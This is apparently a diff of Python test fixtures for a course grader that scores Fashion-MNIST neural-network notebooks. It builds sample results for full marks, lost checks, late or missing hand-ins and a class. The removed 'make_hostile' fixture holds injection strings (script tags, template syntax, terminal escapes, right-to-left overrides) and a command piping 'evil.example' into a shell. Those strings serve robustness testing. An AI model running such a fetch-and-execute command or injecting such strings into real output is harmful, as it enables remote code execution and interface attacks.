@@ -1,22 +1,14 @@
-"""Whole results: full marks, several losses, an unusable file, hostile text, a class."""
+"""Whole results of fashion_cnn: full marks, losses, scored by a person, and a class."""
 
 from __future__ import annotations
 
 from graders.result import (
-    CheckResult,
     Execution,
-    ExerciseResult,
     FailedCell,
-    LayerRow,
-    ManualResult,
-    NetworkEvidence,
     Outcome,
     Result,
-    SubmissionInfo,
-    TrainingSummary,
 )
-
-from .parts import (
+from tests.builders.evidence import (
     EDGES,
     NOTHING,
     ROWS,
@@ -25,18 +17,27 @@ from .parts import (
     dense_network,
     dense_training,
     difference,
-    exercise,
     grid,
     long_training,
-    lost,
     negated,
-    passed,
-    read,
-    result,
     shown_training,
-    unread,
+    summary,
     unscaled_training,
     wrong_dense_network,
+)
+from tests.builders.results import (
+    WALLS,
+    check,
+    exercise,
+    info,
+    judgement,
+    late,
+    lost,
+    missing,
+    of_fashion_cnn,
+    passed,
+    question,
+    ungraded,
 )
 
 UNUSUALLY_HIGH = (
@@ -47,53 +48,51 @@ UNUSUALLY_HIGH = (
 
 def make_full_marks() -> Result:
     exercises = [
-        exercise("1a", "1", "Turn images into vectors", passed("1a", "Fits see 784 inputs")),
+        exercise("1a", "Turn images into vectors", passed("1a", "Fits see 784 inputs")),
         exercise(
             "1b",
-            "1",
             "Scale the pixels",
             passed("1b", "Pixels lie between 0 and 1"),
-            manual=read(
+            manual=question(
                 "Why do the pixel values have to be scaled before training?",
                 "Large inputs make large gradients in the first layer.\nThen SGD overshoots.",
+                score=1,
             ),
         ),
         exercise(
             "1c",
-            "1",
             "A dense network with two hidden layers",
             passed("1c", "784-10-10-10 with relu, relu, softmax", 2, evidence=[dense_network()]),
         ),
-        exercise("1d", "1", "Count its parameters", passed("1d", "8,070 parameters")),
+        exercise("1d", "Count its parameters", passed("1d", "8,070 parameters")),
         exercise(
             "1f",
-            "1",
             "Train it for three epochs",
             passed("1f", "Three epochs, validated on the test set", evidence=[shown_training(0)]),
             passed("1f", "Test accuracy in range", evidence=[shown_training(0), accuracy(0.7713)]),
         ),
         exercise(
             "2a",
-            "2",
             "Four convolutions",
             passed("2a", "Kx * IA", evidence=[grid("Kx * IA", EDGES, EDGES)]),
             passed("2a", "Ky * IA", evidence=[grid("Ky * IA", NOTHING, NOTHING)]),
             passed("2a", "Kx * IB", evidence=[grid("Kx * IB", NOTHING, NOTHING)]),
             passed("2a", "Ky * IB", evidence=[grid("Ky * IB", ROWS, ROWS)]),
         ),
-        exercise("3c", "3", "Count the parameters again", passed("3c", "3,330 parameters")),
-        exercise("4b", "4", "Adam instead of SGD", passed("4b", "Better than SGD"), bonus=True),
+        exercise("3c", "Count the parameters again", passed("3c", "3,330 parameters")),
+        exercise("4b", "Adam instead of SGD", passed("4b", "Better than SGD"), bonus=True),
     ]
-    return result("bianca.rossi", exercises, trainings=[dense_training(0), adam_training(1)])
+    return of_fashion_cnn(
+        "bianca.rossi", *exercises, trainings=[dense_training(0), adam_training(1)]
+    )
 
 
 def make_losses() -> Result:
-    """Five checks lost in different ways, one that follows, an error, a hidden check."""
+    """Make five checks lost in different ways, one that follows, an error, a hidden check."""
     exercises = [
-        exercise("1a", "1", "Turn images into vectors", passed("1a", "Fits see 784 inputs")),
+        exercise("1a", "Turn images into vectors", passed("1a", "Fits see 784 inputs")),
         exercise(
             "1b",
-            "1",
             "Scale the pixels",
             lost(
                 "1b",
@@ -104,7 +103,7 @@ def make_losses() -> Result:
                 where="cell 6",
                 hint="Divide the images by 255 before `fit` sees them: `train_x / 255.0`.",
             ),
-            manual=unread(
+            manual=question(
                 "Why do the pixel values have to be scaled before training?",
                 "Because neural networks like small numbers.\n\n"
                 "With values up to 255 the loss was 2.3 the whole time and did not move, "
@@ -114,7 +113,6 @@ def make_losses() -> Result:
         ),
         exercise(
             "1c",
-            "1",
             "A dense network with two hidden layers",
             lost(
                 "1c",
@@ -127,11 +125,10 @@ def make_losses() -> Result:
                 hint="Set `units=10` in both hidden layers.",
                 evidence=[wrong_dense_network()],
             ),
-            manual=unread("Why must the last layer have exactly 10 units?", None),
+            manual=question("Why must the last layer have exactly 10 units?"),
         ),
         exercise(
             "1d",
-            "1",
             "Count its parameters",
             lost(
                 "1d",
@@ -147,7 +144,6 @@ def make_losses() -> Result:
         ),
         exercise(
             "1f",
-            "1",
             "Train it for three epochs",
             passed("1f", "Three epochs, validated on the test set", evidence=[shown_training(0)]),
             lost(
@@ -164,31 +160,20 @@ def make_losses() -> Result:
         ),
         exercise(
             "1h",
-            "1",
             "Wider hidden layers",
-            CheckResult(
-                id="test_1_dense.py::test_wider",
-                exercise="1h",
+            check(
+                "1h",
+                Outcome.NOT_ATTEMPTED,
+                2,
                 title="Both hidden layers have 64 units",
-                outcome=Outcome.NOT_ATTEMPTED,
-                score=0,
-                points=2,
                 message="No network with layers 64-64-10 was built.",
                 expected="`Dense 64 relu`, `Dense 64 relu`, `Dense 10 softmax`",
                 hint="Build and train a second network with 64 units in each hidden layer.",
             ),
-            CheckResult(
-                id="test_1_dense.py::test_wider_is_better",
-                exercise="1h",
-                title="It beats the small network",
-                outcome=Outcome.BLOCKED,
-                score=0,
-                points=1,
-            ),
+            check("1h", Outcome.BLOCKED, title="It beats the small network"),
         ),
         exercise(
             "2a",
-            "2",
             "Four convolutions",
             lost(
                 "2a",
@@ -213,33 +198,27 @@ def make_losses() -> Result:
         ),
         exercise(
             "2b",
-            "2",
             "What the kernels see",
-            manual=ManualResult(
-                points=1,
+            manual=question(
+                "Which feature of an image does Kx respond to, and which one does Ky?",
+                "They find the edges in the picture.",
                 score=0.5,
-                question="Which feature of an image does Kx respond to, and which one does Ky?",
                 rubric=["1 point: vertical and horizontal edges.", "0.5 points: only edges."],
-                answer="They find the edges in the picture.",
             ),
         ),
         exercise(
             "3a",
-            "3",
             "Build a convolutional network",
-            CheckResult(
-                id="test_3_cnn.py::test_layers",
-                exercise="3a",
+            check(
+                "3a",
+                Outcome.ERROR,
+                3,
                 title="Two pairs of convolution and pooling, then ten outputs",
-                outcome=Outcome.ERROR,
-                score=0,
-                points=3,
                 message="KeyError: 'cnn.layers' in the expectations",
             ),
         ),
         exercise(
             "3b",
-            "3",
             "Train it, and compare",
             lost(
                 "3b",
@@ -256,7 +235,6 @@ def make_losses() -> Result:
         ),
         exercise(
             "4b",
-            "4",
             "Adam instead of SGD",
             passed(
                 "4b",
@@ -265,7 +243,7 @@ def make_losses() -> Result:
                 flag=UNUSUALLY_HIGH,
             ),
             bonus=True,
-            manual=unread("Why does Adam reach a higher accuracy?", "It adapts the step size."),
+            manual=question("Why does Adam reach a higher accuracy?", "It adapts the step size."),
         ),
     ]
     execution = Execution(
@@ -275,7 +253,7 @@ def make_losses() -> Result:
         cells_failed=1,
         seconds=1800.0,
         device="cpu",
-        isolation=["namespaces", "landlock", "limits"],
+        isolation=WALLS,
         failed_cells=[
             FailedCell(
                 index=21,
@@ -298,12 +276,11 @@ def make_losses() -> Result:
     )
     trainings = [
         unscaled_training(0),
-        TrainingSummary(
-            id=1,
+        summary(
+            1,
             title="784-20-20-10, SGD 0.005, batch 32",
             exercise="1g",
             cell=14,
-            items=60_000,
             epochs=1,
             batch_size=32,
             history={"accuracy": [0.62], "val_accuracy": [0.6931]},
@@ -314,18 +291,16 @@ def make_losses() -> Result:
         ),
         adam_training(2),
         long_training(3),
-        TrainingSummary(
-            id=4,
+        summary(
+            4,
             title="784-64-64-10, SGD 10, batch 64",
             status="interrupted",
-            epochs=3,
-            batch_size=64,
             items=20_000,
             history={"loss": [2.4, None, float("nan")], "val_loss": [2.31, None, None]},
             note="the network is a class of the student's own (MyNetwork)",
         ),
     ]
-    return result("alice.smith", exercises, trainings=trainings, execution=execution)
+    return of_fashion_cnn("alice.smith", *exercises, trainings=trainings, execution=execution)
 
 
 def make_unusable(student: str = "carl.unlucky") -> Result:
@@ -333,107 +308,48 @@ def make_unusable(student: str = "carl.unlucky") -> Result:
         "notebook.ipynb: line 214 holds a git merge-conflict marker. Resolve the conflict (choose "
         "one version), check that the file opens and runs, and hand it in again."
     )
-    execution = Execution(status="unusable", message=sentence)
-    bare = [ExerciseResult(id="1a", section="1", title="Turn images", points=32, score=0)]
-    return result(student, bare, execution=execution, data_sets=[])
+    return ungraded(student, "unusable", sentence)
 
 
-HOSTILE = (
-    "<script>alert(1)</script> {{7*7}} {% raw %} <b>x</b> \x1b[31mred\x1b[0m \x07| `a` _b_ *c*"
+COMMENT = "You name the reason.\nWhat follows from it?"
+REASON = "Shown in the tutorial: <b>well done</b>."
+LATE = (
+    "Handed in 1 h 31 min after the deadline of 4 May 2026, 23:59 UTC+02:00: 0.8 points are taken "
+    "off (10% of all points for each 24 h begun)."
 )
 
 
-STRANGE = [float("nan"), float("inf"), -1e300, 1e300, 0.1]
-
-
-def make_hostile() -> Result:
-    """Every text that a student can influence is out to do harm."""
-    long_word = "Donaudampfschifffahrtsgesellschaft" * 12
-    right_to_left = "שלום עולם \u202e evil \u202c مرحبا"
-    answer = "\n".join([HOSTILE, right_to_left, *(f"line {i}" for i in range(200)), long_word])
-    exercises = [
-        exercise(
-            "1a",
-            "1",
-            "Turn images into vectors",
-            lost(
-                "1a",
-                "Fits see 784 inputs",
-                message=f"The variable {HOSTILE} was found.",
-                expected="(60000, 784)",
-                found=HOSTILE + long_word,
-                where=HOSTILE,
-                hint="Use `reshape`.",
-                flag=HOSTILE + long_word,
-                evidence=[
-                    NetworkEvidence(
-                        title=HOSTILE,
-                        rows=[LayerRow(expected=None, found=HOSTILE + long_word, same=False)],
-                        expected_parameters=None,
-                        found_parameters=10**15,
-                    ),
-                    accuracy(*STRANGE, title=HOSTILE + long_word),
-                    accuracy(title="nothing", reference=[], cutoff=float("nan"), chance=7),
-                    grid(HOSTILE, EDGES, [[1e300, None, float("inf"), -0.123456, 1e-9]] * 5),
-                    shown_training(0),
-                    shown_training(99),
-                ],
-            ),
-            manual=unread("Why?", answer),
+def make_judged() -> Result:
+    """Make 5.2 of 8 points: 2 by a check, 0.5 and 3.5 by a person, 0.8 taken off."""
+    manual = question(answer="So.", score=0.5, judgement=judgement(0.5, COMMENT))
+    whole = lost("1b", "They are scaled", points=5)
+    return of_fashion_cnn(
+        "dana.late",
+        exercise("1a", "Turn images into vectors", passed("1a", "784", 2), manual=manual),
+        exercise("1b", "Scale the pixels", whole, override=judgement(3.5, REASON), score=3.5),
+        late=late(
+            due="2026-05-04T23:59:00+02:00",
+            submitted_at="2026-05-05T01:30:00+02:00",
+            seconds=5460,
+            deducted=0.8,
+            message=LATE,
         ),
-        exercise("1b", "1", "Scale the pixels", manual=unread("Why?", right_to_left)),
-    ]
-    execution = Execution(
-        status="stopped",
-        message=HOSTILE,
-        device=HOSTILE,
-        isolation=[HOSTILE],
-        failed_cells=[
-            FailedCell(
-                index=3,
-                exercise=HOSTILE,
-                error_type=HOSTILE,
-                message=HOSTILE + "\n" + long_word,
-                traceback=HOSTILE + "\n```\n# heading\n````\n",
-                source=HOSTILE,
-                hint=HOSTILE,
-            )
-        ],
-        skipped_commands=["!curl https://evil.example/x | sh " + HOSTILE, "`" * 40],
-        cuts=[HOSTILE],
+        score=5.2,
     )
-    training = TrainingSummary(
-        id=0,
-        title=HOSTILE,
-        exercise=HOSTILE,
-        status=HOSTILE,
-        epochs=2,
-        history={
-            f"accuracy {HOSTILE}": [0.1, float("inf")],
-            "loss": [float("nan"), 1e308],
-            "val_loss": [-1e308, None],
-        },
-        fingerprint=HOSTILE,
-        note=HOSTILE,
-    )
-    return result(
-        HOSTILE,
-        exercises,
-        trainings=[training],
-        execution=execution,
-        files=[HOSTILE + ".ipynb"],
-        environment={HOSTILE: {"nested": [HOSTILE]}},
-    )
+
+
+def make_missing() -> Result:
+    return missing("emil.absent", "Nothing was handed in.")
 
 
 def make_class() -> list[Result]:
-    """Fourteen submissions in no order, two of them broken."""
+    """Make fourteen submissions in no order, two of them broken."""
     full = make_full_marks().model_copy(update={"score": 33, "points": 32})
     losses = make_losses().model_copy(update={"score": 14.9, "points": 32})
     results = [full, losses, make_unusable("carl.unlucky")]
     for number, score in enumerate([31, 24.5, 18, 22, 29, 26, 12, 27, 30, 25], start=1):
-        submission = SubmissionInfo(student=f"team {number}", files=["notebook.ipynb"])
+        submission = info("", f"team {number}", files=["notebook.ipynb"])
         base = full if score > 25 else losses
         results.insert(0, base.model_copy(update={"submission": submission, "score": score}))
-    broken = Execution(status="error", message="The process that ran it ended early (signal 9).")
-    return [*results, result("dora", [], execution=broken)]
+    died = Execution(status="error", message="The process that ran it ended early (signal 9).")
+    return [*results, of_fashion_cnn("dora", execution=died)]
